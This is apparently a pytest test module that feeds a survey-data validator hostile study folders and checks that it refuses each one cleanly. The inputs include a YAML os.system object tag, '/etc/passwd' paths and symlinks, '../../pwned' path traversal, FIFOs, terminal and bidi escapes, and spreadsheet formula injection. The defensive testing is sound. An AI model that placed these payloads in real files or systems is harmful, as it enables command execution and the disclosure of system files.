    Case(
        "yaml_40_digit_number",
        _study(thresholds={"min_report_n": int("9" * 40)}),
        2,
        (("study.yml:", "expected a number of at most 30 digits"),),
        count=1,
    ),
    Case(
        "study_yml_over_1_mb",
        _study_appended("# " + "x" * 1_100_000),
        2,
        ("study.yml: expected a study.yml under 1000 kB",),
        count=1,
    ),
    Case(
        "yaml_python_object_tag",
        _study_text("outcome: SAT", "outcome: !!python/object/apply:os.system ['touch pwned']"),
        2,
        ("study.yml:96: expected valid YAML",),
        count=1,
    ),
    Case(
        "yaml_two_documents",
        _study_appended("---\noutcome: REQ"),
        2,
        ("study.yml:97: expected valid YAML",),
        count=1,
    ),
    Case(
        "study_yml_only_a_bom",
        lambda tmp: make_study(tmp, files={"study.yml": b"\xef\xbb\xbf"}),
        2,
        ("study.yml:1: expected a mapping of keys",),
        count=1,
    ),
    Case(
        "study_yml_in_utf16",
        lambda tmp: make_study(
            tmp, files={"study.yml": study_yaml(default_study()).encode("utf-16")}
        ),
        2,
        ("study.yml:1: expected UTF-8 text",),
        count=1,
    ),
    Case(
        "fieldwork_impossible_date",
        _study_text("2025-01-05", "2025-13-45"),
        2,
        ('study.yml:39:waves.baseline.fieldwork[0]: "2025-13-45": expected',),
        count=1,
    ),
    Case(
        # Unquoted, YAML itself reads it as a date: the line must still be named.
        "fieldwork_impossible_unquoted_date",
        _study_text("- '2025-01-05'", "- 2025-13-45"),
        2,
        ("study.yml:39:",),
        count=1,
    ),
    Case(
        "scale_max_one_billion",
        _study(scale={"max": 10**9}),
        2,
        (("study.yml:9:scale.max: ", "1000000000"),),
    ),
    Case(
        "min_report_n_one_trillion",
        _study(thresholds={"min_report_n": 10**12}),
        2,
        (("study.yml:", ":thresholds.min_report_n: ", "1000000000000"),),
        count=1,
    ),
    Case(
        "straightliners_10_to_the_20",
        _study(quality={"straightliners": 10**20}),
        2,
        (("study.yml:", ":quality.straightliners: "),),
        count=1,
    ),
    Case(
        "target_index_nan",
        _study(thresholds={"target_index": float("nan")}),
        2,
        (("study.yml:", ":thresholds.target_index: "),),
        count=1,
    ),
    Case(
        "languages_twice",
        _study(languages=["ar", "en", "ar"]),
        2,
        (("study.yml:4:languages: expected each language once"),),
    ),
    Case(
        "bidi_override_in_a_scale_label",
        _study(scale={"labels": {4: {"en": "Agree\u202e"}}}),
        2,
        (("study.yml:", ":scale.labels.4.en: "),),
        count=1,
    ),
    # --- study.yml paths (Deliver: relative, inside the study folder, regular files) ---------
    Case(
        "files_etc_passwd",
        _study(waves={"baseline": {"files": ["/etc/passwd"]}}),
        2,
        (
            ':waves.baseline.files[0]: "/etc/passwd": expected a path relative to the study '
            "folder, inside it",
        ),
    ),
    Case(
        "files_outside_the_study_folder",
        _outside_file_listed,
        2,
        (':waves.baseline.files[0]: "../outside.csv": expected a path relative',),
    ),
    Case(
        "files_windows_drive",
        _study(waves={"baseline": {"files": ["C:\\x.csv"]}}),
        2,
        (':waves.baseline.files[0]: "C:',),
    ),
    Case(
        "files_windows_network_share",
        _study(waves={"baseline": {"files": ["\\\\server\\share\\x.csv"]}}),
        2,
        (":waves.baseline.files[0]: ",),
    ),
    Case(
        "files_a_folder",
        _study(waves={"baseline": {"files": ["surveys"]}}),
        2,
        ("surveys: expected a file, found a folder",),
        count=1,
    ),
    Case(
        "files_with_a_nul_byte",
        _study_text("- surveys/baseline.csv", '- "surveys/baseline.csv\\0"'),
        2,
        ("study.yml:37:waves.baseline.files[0]: ",),
    ),
    Case(
        "same_file_on_both_waves_by_another_spelling",
        _listed_twice_by_another_spelling,
        2,
        ("study.yml:46:waves.followup.files[0]: ",),
    ),
    # --- the file system (items 5, 7: links, devices, pipes, folders) ------------------------
    Case(
        "survey_link_to_dev_zero",
        _linked("surveys/baseline.csv", "/dev/zero"),
        2,
        ("surveys/baseline.csv: expected a file inside the study folder",),
        count=1,
    ),
    Case(
        "survey_link_to_etc_passwd",
        _linked("surveys/baseline.csv", "/etc/passwd"),
        2,
        ("surveys/baseline.csv: expected a file inside the study folder",),
        count=1,
    ),
    Case(
        "survey_dangling_link",
        _linked("surveys/baseline.csv", "no-such-export.csv"),
        2,
        ("surveys/baseline.csv: expected an existing file",),
        count=1,
    ),
    Case(
        "survey_link_loop",
        _linked("surveys/baseline.csv", "baseline.csv"),
        2,
        ("surveys/baseline.csv: expected a readable file",),
        count=1,
    ),
    Case(
        "survey_fifo",
        _fifo("surveys/baseline.csv"),
        2,
        ("surveys/baseline.csv: expected a regular file",),
        count=1,
    ),
    Case(
        "surveys_folder_linked_from_outside",
        _linked("surveys", _moved_outside("surveys")),
        2,
        (
            "surveys/baseline.csv: expected a file inside the study folder",
            "surveys/followup.csv: expected a file inside the study folder",
        ),
        count=2,
    ),
    Case(
        "survey_link_inside_the_study_folder_handled",
        _linked("surveys/baseline.csv", _moved_inside("surveys/baseline.csv", "exports/b.csv")),
        0,
        received=12,
    ),
    Case("study_folder_is_a_link_handled", _linked_study_folder, 0, received=12),
    Case(
        "study_folder_is_a_file",
        _a_file_as_study_folder,
        2,
        ("study.zip: expected a folder, not a file",),
        count=1,
    ),
    Case(
        "study_yml_linked_from_outside",
        _linked("study.yml", _moved_outside("study.yml")),
        2,
        ("study.yml: expected a file inside the study folder",),
        count=1,
    ),
    Case(
        "study_yml_is_a_folder",
        _folder("study.yml"),
        2,
        ("study.yml: expected a file, found a folder",),
        count=1,
    ),
    Case(
        "agencies_linked_from_outside",
        _linked("agencies.csv", _moved_outside("agencies.csv")),
        2,
        ("agencies.csv: expected a file inside the study folder",),
        count=1,
    ),
    Case(
        "agencies_fifo",
        _fifo("agencies.csv"),
        2,
        ("agencies.csv: expected a regular file",),
        count=1,
    ),
    Case("interventions_empty_0_bytes_handled", _interventions(b""), 0, received=12),
    Case("interventions_only_blank_lines_handled", _interventions("\n\n\r\n"), 0, received=12),
    Case("interventions_header_only_handled", _interventions(INTERVENTIONS_HEADER), 0, received=12),
    Case(
        "interventions_a_folder",
        _folder("interventions.csv"),
        2,
        ("interventions.csv: expected a file, found a folder",),
        count=1,
    ),
    Case(
        "interventions_link_to_etc_passwd",
        _linked("interventions.csv", "/etc/passwd"),
        2,
        ("interventions.csv: expected a file inside the study folder",),
        count=1,
    ),
    Case(
        "interventions_dangling_link",
        _linked("interventions.csv", "no-such-log.csv"),
        2,
        ("interventions.csv: expected an existing file",),
        count=1,
    ),
    # --- numbers (item 11: 400 digits are not infinity; nothing non-finite or negative) ------
    Case(
        "duration_400_digits",
        _baseline_rows(with_cell(BASELINE, 0, duration_s="1" * 400)),
        2,
        ('surveys/baseline.csv:2:duration_s: "1111',),
        count=1,
    ),
    Case(
        "duration_inf",
        _baseline_rows(with_cell(BASELINE, 0, duration_s="inf")),
        2,
        ('surveys/baseline.csv:2:duration_s: "inf": expected a duration',),
        count=1,
    ),
    Case(
        "duration_nan",
        _baseline_rows(with_cell(BASELINE, 1, duration_s="NaN")),
        2,
        ('surveys/baseline.csv:3:duration_s: "NaN": expected a duration',),
        count=1,
    ),
    Case(
        "duration_1e309",
        _baseline_rows(with_cell(BASELINE, 2, duration_s="1e309")),
        2,
        ('surveys/baseline.csv:4:duration_s: "1e309": expected a duration',),
        count=1,
    ),
    Case(
        "duration_negative",
        _baseline_rows(with_cell(BASELINE, 3, duration_s="-5")),
        2,
        ('surveys/baseline.csv:5:duration_s: "-5": expected a duration',),
        count=1,
    ),
    Case(
        "duration_clock_with_400_digit_hours",
        _baseline_rows(with_cell(BASELINE, 0, duration_s="9" * 400 + ":00:00")),
        2,
        ('surveys/baseline.csv:2:duration_s: "9999',),
        count=1,
    ),
    Case(
        "duration_as_clock_handled",
        _baseline_rows(with_cell(BASELINE, 0, duration_s="0:05:00")),
        0,
        received=12,
    ),
    Case(
        "recommend_minus_1",
        _baseline_rows(with_cell(BASELINE, 0, nps="-1")),
        2,
        ('surveys/baseline.csv:2:nps: "-1": expected a whole number 0-10, or blank',),
        count=1,
    ),
    Case(
        "recommend_10_and_a_half",
        _baseline_rows(with_cell(BASELINE, 0, nps="10.5")),
        2,
        ('surveys/baseline.csv:2:nps: "10.5": expected a whole number 0-10, or blank',),
        count=1,
    ),
    Case(
        "recommend_400_digits",
        _baseline_rows(with_cell(BASELINE, 0, nps="1" * 400)),
        2,
        ('surveys/baseline.csv:2:nps: "1111',),
        count=1,
    ),
    Case(
        "item_answer_400_digits",
        _baseline_rows(with_cell(BASELINE, 0, q1="4" + "0" * 399)),
        2,
        ('surveys/baseline.csv:2:q1: "4000',),
        count=1,
    ),
    Case(
        "item_answer_inf",
        _baseline_rows(with_cell(BASELINE, 0, sat="inf")),
        2,
        (f'surveys/baseline.csv:2:sat: "inf": {SCALE_EXPECTED}',),
        count=1,
    ),
    Case(
        "date_400_digits",
        _baseline_rows(with_cell(BASELINE, 0, date="2" * 400)),
        2,
        ('surveys/baseline.csv:2:date: "2222',),
        count=1,
    ),
    Case(
        "date_year_9999",
        _baseline_rows(with_cell(BASELINE, 0, date="9999-12-31")),
        2,
        ('surveys/baseline.csv:2:date: "9999-12-31": expected a date',),
        count=1,
    ),
    Case(
        "frontline_staff_400_digits",
        _agencies([dict(AGENCIES[0], frontline_staff="1" * 400), AGENCIES[1]]),
        2,
        ('agencies.csv:2:frontline_staff: "1111',),
        count=1,
    ),
    Case(
        "monthly_beneficiaries_negative",
        _agencies([AGENCIES[0], dict(AGENCIES[1], monthly_beneficiaries="-900")]),
        2,
        ('agencies.csv:3:monthly_beneficiaries: "-900": expected a whole number of 0 or more',),
        count=1,
    ),
    Case(
        "monthly_beneficiaries_inf",
        _agencies([AGENCIES[0], dict(AGENCIES[1], monthly_beneficiaries="inf")]),
        2,
        ('agencies.csv:3:monthly_beneficiaries: "inf": expected a whole number',),
        count=1,
    ),
    Case(
        "interventions_hours_nan",
        _interventions(INTERVENTIONS_HEADER + "A01,2025-03-01,Training,12,nan\n"),
        2,
        ('interventions.csv:2:hours: "nan": expected a number of hours',),
        count=1,
    ),
    Case(
        "interventions_staff_trained_400_digits",
        _interventions(INTERVENTIONS_HEADER + f"A01,2025-03-01,Training,{'1' * 400},2\n"),
        2,
        ('interventions.csv:2:staff_trained: "1111',),
        count=1,
    ),
    # --- encodings (item 10: name the bad line; UTF-16/32 read or named; NUL by row) ---------
    Case(
        "utf8_with_one_cp1256_line",
        _baseline_lines(
            lambda i, line: line.encode("cp1256" if i == 3 else "utf-8"),
            with_cell(BASELINE, 2, comment="بطيء جدا"),
        ),
        2,
        ("surveys/baseline.csv:4",),
        count=1,
    ),
    Case(
        "utf16_le_without_bom",
        _baseline_bytes(_csv_bytes(BASELINE, "utf-16-le")),
        0,
        received=12,
        or_named=("surveys/baseline.csv", "UTF-16"),
    ),
    Case(
        "utf16_be_without_bom",
        _baseline_bytes(_csv_bytes(BASELINE, "utf-16-be")),
        0,
        received=12,
        or_named=("surveys/baseline.csv", "UTF-16"),
    ),
    Case(
        "utf16_be_with_bom_handled",
        _baseline_bytes("\ufeff".encode("utf-16-be") + _csv_bytes(BASELINE, "utf-16-be")),
        0,
        received=12,
    ),
    Case(
        "utf32_with_bom_handled",
        _baseline_bytes(_csv_bytes(BASELINE, "utf-32")),
        0,
        received=12,
    ),
    Case(
        "utf32_be_with_bom_handled",
        _baseline_bytes("\ufeff".encode("utf-32-be") + _csv_bytes(BASELINE, "utf-32-be")),
        0,
        received=12,
    ),
    Case(
        "utf32_without_bom",
        _baseline_bytes(_csv_bytes(BASELINE, "utf-32-le")),
        0,
        received=12,
        or_named=("surveys/baseline.csv", "UTF-32"),
    ),
    Case(
        "nul_byte_in_a_row",
        _baseline_bytes(_csv_bytes(BASELINE).replace(b"slow", b"sl\x00ow")),
        2,
        ("surveys/baseline.csv:4",),
        count=1,
    ),
    Case(
        "file_that_is_only_a_bom",
        _baseline_bytes(b"\xef\xbb\xbf"),
        2,
        ("surveys/baseline.csv: expected a header row and data rows: the file is empty",),
        count=1,
    ),
    Case(
        "file_of_blank_lines_only",
        _baseline_bytes(b"\n\r\n  \n\n"),
        2,
        ("surveys/baseline.csv: expected a header row and data rows: the file is empty",),
        count=1,
    ),
    Case(
        "utf8_bom_twice_handled",
        _baseline_bytes(b"\xef\xbb\xbf" + _csv_bytes(BASELINE, "utf-8-sig")),
        0,
        received=12,
    ),
    Case(
        "mixed_line_endings_handled",
        _baseline_lines(lambda i, line: line.replace("\n", ("\r\n", "\n", "\r")[i % 3]).encode()),
        0,
        received=12,
    ),
    # --- headers (item 11: NFC names, case twins) --------------------------------------------
    Case("nfd_arabic_headers_handled", _nfd_headers, 0, ("warning: surveys/baseline.csv",)),
    Case(
        "headers_q01_and_Q01",
        _q01_and_Q01,
        2,
        (("surveys/baseline.csv:1:", "Q01", "q01"),),
    ),
    Case(
        "header_with_spaces_and_other_case_handled",
        lambda tmp: make_study(tmp, baseline=_renamed(BASELINE, "q1", " Q1 ")),
        0,
        received=12,
    ),
    Case(
        "data_under_a_blank_header_handled",
        _baseline_bytes(
            csv_text(BASELINE, RESPONSE_COLUMNS + [""]).encode()
            + b"b7,A01,2025-01-12,300,,4,4,4,4,4,8,1,orphan\n"
        ),
        0,
        ("warning: surveys/baseline.csv: column M has data but no header: ignored",),
        received=13,
    ),
    # --- CSV outputs safe in Excel, personal data masked (item 4 and Deliver) ----------------
    Case(
        "formula_looking_ids_and_comments_handled",
        _formula_cells,
        0,
        received=12,
        in_excluded=("HYPERLINK", "SUM(1)", "notepad"),
    ),
    Case(
        "personal_data_in_excluded_comments_handled",
        _personal_data_in_excluded_comments,
        0,
        received=12,
        in_excluded=("call me on",),
        not_in_outputs=PERSONAL,
    ),
    # --- other hostile inputs ----------------------------------------------------------------
    Case(
        "unclosed_quote_swallows_the_rest",
        _baseline_bytes(_csv_bytes(BASELINE).replace(b"slow", b'"slow')),
        2,
        ("surveys/baseline.csv:4",),
    ),
    Case(
        "comment_of_200_kb_handled",
        _baseline_rows(with_cell(BASELINE, 1, comment="very long " * 20_000)),
        0,
        received=12,
    ),
    Case("ten_thousand_columns_handled", _wide_file, 0, received=12),
    Case(
        "comment_with_line_breaks_handled",
        _baseline_rows(with_cell(BASELINE, 0, comment="first line\nsecond\r\nthird\rfourth")),
        0,
        received=12,
    ),
    Case(
        "short_row_handled",
        _baseline_bytes(_csv_bytes(BASELINE) + b"b7,A01,2025-01-12\n"),
        0,
        received=13,
    ),
    Case(
        "xlsx_with_cr_only_line_breaks_in_text_handled",
        _xlsx_rows(with_cell(BASELINE, 0, comment="first\rsecond\rthird")),
        0,
        received=12,
    ),
    Case(
        "xlsx_that_is_really_a_csv",
        _xlsx_study(_csv_bytes(BASELINE)),
        2,
        ("surveys/baseline.xlsx: expected a readable file (not a valid .xlsx workbook",),
        count=1,
    ),
    Case(
        # Text that pandas, parquet or a CSV reader could take for a missing value.
        "ids_that_look_like_missing_values_handled",
        lambda tmp: make_study(
            tmp,
            agencies=[dict(AGENCIES[0], agency_id="NA"), dict(AGENCIES[1], agency_id="null")],
            baseline=[
                dict(r, response_id=rid)
                for r, rid in zip(
                    _with_agency(_with_agency(BASELINE, "A01", "NA"), "A02", "null"),
                    ("NA", "nan", "None", "NULL", "#N/A", "N/A"),
                    strict=True,
                )
            ],
            followup=_with_agency(_with_agency(FOLLOWUP, "A01", "NA"), "A02", "null"),
        ),
        0,
        received=12,
    ),
    Case(
        "terminal_escape_in_an_unused_header_handled",
        lambda tmp: make_study(tmp, baseline=[dict(r, **{"x\x1b[2Jy": "1"}) for r in BASELINE]),
        0,
        ("warning: surveys/baseline.csv",),
        received=12,
    ),
    # --- the size limit per input file (Deliver: configurable, refused unread) ---------------
    Case(
        "csv_over_the_size_limit",
        _baseline_rows(with_cell(BASELINE, 0, comment="x" * 10_000)),
        2,
        ("surveys/baseline.csv: expected a file of at most 4.0 KiB",),
        count=1,
        env=((SIZE_LIMIT, "0.00390625"),),
    ),
    Case(
        # A few kilobytes on disk that unpack to far more (the text is in xl/sharedStrings.xml,
        # where openpyxl puts every string): the unpacked size counts.
        "xlsx_unpacking_over_the_size_limit",
        # openpyxl keeps at most 32,767 characters a cell: three long comments unpack past
        # 64 KiB while the compressed workbook stays far under it.
        _xlsx_rows(
            with_cell(
                with_cell(with_cell(BASELINE, 0, comment="a" * 30_000), 1, comment="b" * 30_000),
                2,
                comment="c" * 30_000,
            )
        ),
        2,
        (("surveys/baseline.xlsx: expected a file of at most 64.0 KiB", "unpacks to"),),
        count=1,
        env=((SIZE_LIMIT, "0.0625"),),
    ),
    Case(
        "sav_over_the_size_limit",
        lambda tmp: spss_study(tmp, sav_frame(response_id=["s1" * 2000, "s2", "s3"])),
        2,
        ("surveys/baseline.sav: expected a file of at most 4.0 KiB",),
        count=1,
        env=((SIZE_LIMIT, "0.00390625"),),
    ),
    Case(
        "size_limit_setting_not_a_number",
        lambda tmp: make_study(tmp),
        2,
        (f'{SIZE_LIMIT}: "lots": expected a positive number of megabytes',),
        env=((SIZE_LIMIT, "lots"),),
    ),
    Case(
        "terminal_escape_in_a_bad_cell",
        _baseline_rows(with_cell(BASELINE, 0, q1="\x1b[2J6")),
        2,
        ("surveys/baseline.csv:2:q1: ",),
        count=1,
    ),
    Case(
        "line_separator_in_a_bad_cell",
        _baseline_rows(with_cell(BASELINE, 0, q1="6\u20286")),
        2,
        ("surveys/baseline.csv:2:q1: ",),
        count=1,
    ),
    Case(
        "bidi_override_in_a_bad_cell",
        _baseline_rows(with_cell(BASELINE, 0, q2="\u202e6")),
        2,
        ("surveys/baseline.csv:2:q2: ",),
        count=1,
    ),
]

#: Cases also run through ``python -m analysis validate`` (each start costs about a second).
SUBPROCESS_CASES = {
    "cp1256_handled",
    "latin1_garbage",
    "missing_study_yml",
    "broken_yaml_syntax",
    "corrupt_xlsx_random_bytes",
    "spss_with_labels_handled",
    "missing_study_folder",
    "six_on_a_1_to_5_scale",
}

#: Hostile folders also run through ``python -m analysis prepare``: issue 11 saw prepare (not
#: validate) print tracebacks or hang on these.
PREPARE_SUBPROCESS_CASES = {
    "yaml_5000_levels_of_lists",
    "yaml_alias_bomb",
    "yaml_5000_digit_integer",
    "files_etc_passwd",
    "files_a_folder",
    "survey_link_to_dev_zero",
    "survey_link_to_etc_passwd",
    "surveys_folder_linked_from_outside",
    "agency_id_path_traversal",
    "agency_id_formula_equals",
}

#: Characters no output line may hold raw: controls (a terminal runs escape sequences), line
#: and paragraph separators (they split a "one-line" message) and bidi embeddings, overrides
#: and isolates (they reorder what the line shows).
_BIDI = set("\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069")
#: Longest output line: values are quoted cut short, so even a 5000-digit number fits.
MAX_LINE = 500

#: First characters that make a spreadsheet run a cell as a formula (the OWASP rule).
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
_NUMBER_TEXT = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?")


def test_when_corpus_is_listed_then_it_has_at_least_120_cases():
    assert len(CASES) >= 120
    assert len([c for c in CASES if c.status == 2]) >= 30
    assert len({c.name for c in CASES}) == len(CASES)
    assert {c.name for c in CASES} >= PREPARE_SUBPROCESS_CASES | SUBPROCESS_CASES


def _holds(lines: list[str], fragment: str | tuple[str, ...]) -> bool:
    together = (fragment,) if isinstance(fragment, str) else fragment
    return any(all(part in line for part in together) for line in lines)


def _hidden_characters(line: str) -> list[str]:
    return [
        f"U+{ord(c):04X}"
        for c in line
        if unicodedata.category(c) in ("Cc", "Zl", "Zp") or c in _BIDI
    ]


def _check_lines(text: str) -> None:
    """What every command's output must be: lines a terminal shows as they are, none long,
    no traceback, nothing quoted from a file outside the study folder."""
    assert "Traceback" not in text
    assert "root:x:0:0" not in text  # a line of /etc/passwd
    for line in text.split("\n"):
        assert not _hidden_characters(line), (_hidden_characters(line), line)
        assert len(line) <= MAX_LINE, line[:200]


def _check_output(case: Case, status: int, out: str, err: str) -> None:
    _check_lines(out + err)
    lines = (out + err).split("\n")
    if case.or_named is not None and status == 2:
        # A precise refusal instead of reading the file: the issue allows either.
        assert _holds(lines, case.or_named), err
        assert err.splitlines()[-1].endswith("fix them and run validate again"), err
        return
    assert status == case.status, err
    for expected in case.expected:
        assert _holds(lines, expected), (expected, err)
    if case.status == 2:
        assert err.splitlines()[-1].endswith("fix them and run validate again"), err
        if case.count is not None:
            assert err.splitlines()[-1].startswith(f"{case.count} problem(s)"), err
    else:
        assert out.startswith("ok: ")


def _unsafe_cells(path: Path) -> list[str]:
    """Text cells of a CSV file that a spreadsheet would run as a formula."""
    with open(path, encoding="utf-8-sig", newline="") as handle:
        return [
            cell
            for row in csv.reader(handle)
            for cell in row
            if cell.startswith(FORMULA_STARTS) and not _NUMBER_TEXT.fullmatch(cell)
        ]


def _check_prepared(case: Case, root: Path, out_dir: Path) -> None:
    """A study that validates prepares, and accounts for every row (DESIGN.md section 8):
    per agency and wave received = analysed + excluded, the reason columns sum to the
    excluded rows, and the CSV files written are safe to open in a spreadsheet."""
    prepared = prepare_study(root)
    table = prepared.ledger
    reasons = list(config.EXCLUSION_REASONS)
    assert list(table.columns) == ["agency_id", "wave", "received", "analysed", *reasons]
    agency_ids = prepared.agencies["agency_id"].astype(str).tolist()
    assert len(table) == len(agency_ids) * len(config.WAVES)
    analysed, excluded = prepared.analysed, prepared.excluded
    for row in table.to_dict("records"):
        key = (row["agency_id"], row["wave"])
        in_analysed = (analysed["agency_id"] == key[0]) & (analysed["wave"] == key[1])
        in_excluded = (excluded["agency_id"] == key[0]) & (excluded["wave"] == key[1])
        assert row["received"] == row["analysed"] + sum(row[r] for r in reasons), row
        assert row["analysed"] == int(in_analysed.sum()), row
        assert sum(row[r] for r in reasons) == int(in_excluded.sum()), row
        for reason in reasons:
            assert row[reason] == int((excluded.loc[in_excluded, "reason"] == reason).sum()), row
    assert int(table["received"].sum()) == len(analysed) + len(excluded)
    if case.received is not None:
        assert int(table["received"].sum()) == case.received
    paths = write_prepared(prepared, out_dir)
    texts = {}
    for name in ("excluded", "ledger"):
        assert _unsafe_cells(paths[name]) == [], name
        texts[name] = paths[name].read_text(encoding="utf-8-sig")
    for fragment in case.in_excluded:
        assert fragment in texts["excluded"], fragment
    for fragment in case.not_in_outputs:
        assert all(fragment not in text for text in texts.values()), fragment


class _Hang(BaseException):
    """Raised in a command that took too long (a BaseException, so no catch-all hides it)."""


@contextlib.contextmanager
def _time_limit(seconds: float) -> Iterator[None]:
    """Fail a hang (a FIFO opened, /dev/zero read) instead of blocking the test run for ever."""

    def interrupt(signum, frame):
        raise _Hang(f"no answer within {seconds} s")

    previous = signal.signal(signal.SIGALRM, interrupt)
    signal.setitimer(signal.ITIMER_REAL, seconds)
    try:
        yield
    finally:
        signal.setitimer(signal.ITIMER_REAL, 0)
        signal.signal(signal.SIGALRM, previous)


@pytest.mark.parametrize("case", CASES, ids=lambda c: c.name)
def test_when_input_is_malformed_then_validate_lists_it_or_handles_it(
    case, tmp_path, capsys, monkeypatch
):
    root = case.build(tmp_path)
    # prepare_study reads the folder with the same load_study as validate: reading it once
    # halves the time of the passing cases (the folder does not change in between).
    read = analysis.validate.load_study
    cache: dict[Path, Any] = {}
    monkeypatch.setattr(
        analysis.validate,
        "load_study",
        lambda folder: (
            cache[Path(folder)]
            if Path(folder) in cache
            else cache.setdefault(Path(folder), read(folder))
        ),
    )
    for name, value in case.env:
        monkeypatch.setenv(name, value)
    with _time_limit(20):
        status = run_validate(root)
    out, err = capsys.readouterr()
    _check_output(case, status, out, err)
    if status == 0:
        with _time_limit(20):
            _check_prepared(case, root, tmp_path / "processed-check")


def _run(*args: str, timeout: float = 60, env=()) -> subprocess.CompletedProcess:
    env = {**os.environ, "PYTHONWARNINGS": "ignore", **dict(env)}
    return subprocess.run(
        [sys.executable, "-m", "analysis", *args],
        capture_output=True,
        text=True,
        encoding="utf-8",
        errors="backslashreplace",  # undecodable output is itself a finding, not a crash
        timeout=timeout,
        env=env,
        stdin=subprocess.DEVNULL,
    )


@pytest.mark.parametrize(
    "case", [c for c in CASES if c.name in SUBPROCESS_CASES], ids=lambda c: c.name
)
def test_when_run_from_the_command_line_then_same_status_and_no_traceback(case, tmp_path):
    root = case.build(tmp_path)
    result = _run("validate", "--data", str(root), env=case.env)
    _check_output(case, result.returncode, result.stdout, result.stderr)


@pytest.mark.parametrize(
    "case", [c for c in CASES if c.name in PREPARE_SUBPROCESS_CASES], ids=lambda c: c.name
)
def test_when_a_hostile_folder_is_prepared_then_it_exits_2_with_one_line_per_problem(
    case, tmp_path
):
    root = case.build(tmp_path)
    started = time.monotonic()
    result = _run("prepare", "--data", str(root), env=case.env)  # the timeout fails a hang
    assert time.monotonic() - started < 60
    assert result.returncode == 2, result.stderr
    err = result.stderr
    _check_lines(result.stdout + err)
    # One line per message: every line ends in a newline, none is a continuation.
    assert err.endswith("\n") and err.splitlines() == err.split("\n")[:-1], err
    assert all(line.strip() and not line[0].isspace() for line in err.splitlines()), err
    # prepare lists the same problems validate does.
    for expected in case.expected:
        assert _holds(err.splitlines(), expected), (expected, err)
    passwd = [line for line in Path("/etc/passwd").read_text().splitlines() if line.strip()]
    assert not [line for line in passwd if line in err]
    assert not (config.processed_dir(root) / "responses.parquet").exists()


def _tree(folder: Path, skip: Path) -> dict[str, tuple[int, int] | None]:
    """Every path under ``folder`` but those under ``skip``, with a file's size and mtime
    (a folder's own mtime changes when ``skip`` is created in it: that is allowed)."""
    found: dict[str, tuple[int, int] | None] = {}
    for path in folder.rglob("*"):
        if path == skip or skip in path.parents:
            continue
        info = path.lstat()
        is_folder = path.is_dir() and not path.is_symlink()
        found[str(path.relative_to(folder))] = (
            None if is_folder else (info.st_size, info.st_mtime_ns)
        )
    return found


def test_when_an_agency_id_climbs_out_of_the_reports_folder_then_build_writes_nothing_outside(
    tmp_path,
):
    root = _agency_id("../../pwned")(tmp_path / "data")
    reports = tmp_path / "site" / "public" / "reports"  # R/../../pwned is tmp_path/site/pwned
    reports.parent.mkdir(parents=True)
    before = _tree(tmp_path, reports)
    result = _run(
        *("build", "--data", str(root), "--reports", str(reports)),
        *("--agency", "../../pwned", "--phase", "baseline", "--lang", "en"),
        # One worker: the first build starts its kernels before the data are checked.
        *("--jobs", "1"),
        timeout=120,
    )
    assert result.returncode == 2, result.stderr
    _check_lines(result.stdout + result.stderr)
    assert 'agencies.csv:2:agency_id: "../../pwned"' in result.stderr
    assert not (tmp_path / "site" / "pwned").exists()
    assert _tree(tmp_path, reports) == before


def test_when_a_file_is_badly_broken_then_the_listing_is_capped_per_column(tmp_path, capsys):
    rows = [dict(r, q1="6") for r in BASELINE] * 5  # 30 rows, each with a 6 on q1
    rows = [dict(r, response_id=f"r{i}") for i, r in enumerate(rows)]
    assert run_validate(make_study(tmp_path, baseline=rows)) == 2
    err = capsys.readouterr().err.splitlines()
    q1_lines = [
        line for line in err if line.startswith("surveys/baseline.csv:") and ':q1: "6"' in line
    ]
    assert len(q1_lines) == 20
    assert "surveys/baseline.csv:q1: ... and 10 more like this" in err
    assert err[-1] == "30 problem(s) in 1 file(s): fix them and run validate again"
